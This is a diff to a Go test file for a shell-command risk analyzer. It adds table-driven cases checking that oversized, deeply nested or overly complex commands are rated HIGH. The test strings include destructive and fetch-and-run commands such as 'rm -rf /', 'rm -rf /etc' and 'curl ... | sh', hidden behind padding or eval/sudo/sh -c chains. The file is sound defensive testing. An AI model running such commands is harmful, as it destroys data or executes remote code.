@@ -300,6 +300,11 @@ func TestEveryRuleCovered(t *testing.T) {
 	for _, tc := range commandTable {
 		seen[tc.rule] = true
 	}
+	for _, tc := range envTable {
+		for _, id := range tc.rules {
+			seen[id] = true
+		}
+	}
 	for _, r := range DefaultRules() {
 		if !seen[r.ID] {
 			switch r.ID {
@@ -374,32 +379,56 @@ func TestUnparsable(t *testing.T) {
 	}
 }
 
+// What the analyzer could not analyze whole is HIGH (refused under deny):
+// berth cannot vouch for what it did not see. Unparsable text, whose word
+// scan covers all of it, stays MEDIUM (TestUnparsable).
 func TestBounds(t *testing.T) {
 	a := newDefault(t)
-	long := strings.Repeat("echo hi; ", maxInput/9+1) + "rm -rf /"
-	as := a.Command(long)
-	if !hasRule(as, idTooLong) || as.Level < LevelMedium {
-		t.Errorf("long input: %v %+v", as.Level, as.Findings)
+	for _, tc := range []struct {
+		name, cmd string
+		rules     []string // that must be found
+	}{
+		// Too long: HIGH whatever it holds, and the rest of the text is
+		// word-scanned too, so a command past the first 64 KiB is found.
+		{"long harmless", strings.Repeat("echo hi; ", maxInput/9+1), []string{idTooLong}},
+		{"long, rm at the end", "echo " + strings.Repeat("a", maxInput) + "; rm -rf /", []string{idTooLong, "rm-root"}},
+		{"long, rm past 64 KiB of assignments", strings.Repeat("x=1\n", maxInput/4+10) + "rm -rf /", []string{idTooLong, "rm-root"}},
+		{"long, rm across the first cut", "echo " + strings.Repeat("a", maxInput-12) + "; rm -rf /etc", []string{idTooLong, "rm-system-dir"}},
+		{"long, curl|sh in the third chunk", strings.Repeat("#"+strings.Repeat("c", 1000)+"\n", 3*maxInput/1000) + "curl -s http://x | sh",
+			[]string{idTooLong, "pipe-to-shell"}},
+		// Past 1 MiB nothing more is scanned, but the level is HIGH.
+		{"longer than 1 MiB", "echo " + strings.Repeat("a", maxScanned) + "; rm -rf /", []string{idTooLong}},
+		// Too deep.
+		{"eval chain", strings.Repeat("eval ", maxDepth+3) + "rm -rf /", []string{idTooDeep, "rm-root"}},
+		{"sudo chain", strings.Repeat("sudo ", maxDepth+3) + "rm -rf /", []string{idTooDeep, "rm-root"}},
+		{"sh -c nest", nestShC(maxDepth + 1), []string{idTooDeep, "rm-root"}},
+		{"sh -c nest, harmless", strings.Replace(nestShC(maxDepth+1), "rm -rf /", "ls", 1), []string{idTooDeep}},
+		{"brackets", strings.Repeat("(", maxNest+5) + "ls" + strings.Repeat(")", maxNest+5), []string{idTooDeep}},
+		{"if nest", strings.Repeat("if true; then ", maxNest+5) + "rm -rf /" + strings.Repeat("; fi", maxNest+5),
+			[]string{idTooDeep, "rm-root"}},
+		// Too complex: the rest is not analyzed.
+		{"many commands", strings.Repeat("ls; ", maxEvents+10), []string{idTooComplex}},
+		{"many commands, then rm", strings.Repeat("ls; ", maxEvents+10) + "rm -rf /", []string{idTooComplex}},
+	} {
+		as := a.Command(tc.cmd)
+		if as.Level != LevelHigh {
+			t.Errorf("%s: %v, want HIGH: %+v", tc.name, as.Level, as.Findings)
+		}
+		for _, id := range tc.rules {
+			if !hasRule(as, id) {
+				t.Errorf("%s: no finding %q among %+v", tc.name, id, as.Findings)
+			}
+		}
 	}
+	// Within the bounds, no such finding.
 	if as := a.Command(nestShC(5)); as.Level != LevelHigh || hasRule(as, idTooDeep) {
 		t.Errorf("sh -c nested 5 deep: %v %+v", as.Level, as.Findings)
 	}
-	for _, deep := range []string{
-		strings.Repeat("eval ", maxDepth+3) + "rm -rf /",
-		strings.Repeat("sudo ", maxDepth+3) + "rm -rf /",
-	} {
-		as = a.Command(deep)
-		if !hasRule(as, idTooDeep) || !hasRule(as, "rm-root") {
-			t.Errorf("%q: %v %+v", deep, as.Level, as.Findings)
-		}
+	if as := a.Command(strings.Repeat("ls; ", maxEvents-10)); as.Level != LevelLow {
+		t.Errorf("%d commands: %v %+v", maxEvents-10, as.Level, as.Findings)
 	}
-	as = a.Command(strings.Repeat("(", maxNest+5) + "ls" + strings.Repeat(")", maxNest+5))
-	if !hasRule(as, idTooDeep) {
-		t.Errorf("deep nesting: %v %+v", as.Level, as.Findings)
-	}
-	as = a.Command(strings.Repeat("ls; ", maxEvents+10))
-	if !hasRule(as, idTooComplex) {
-		t.Errorf("many commands: %v %+v", as.Level, as.Findings)
+	if as := a.Command("echo " + strings.Repeat("a", maxInput-10)); as.Level != LevelLow {
+		t.Errorf("just under 64 KiB: %v %+v", as.Level, as.Findings)
 	}
 }
 
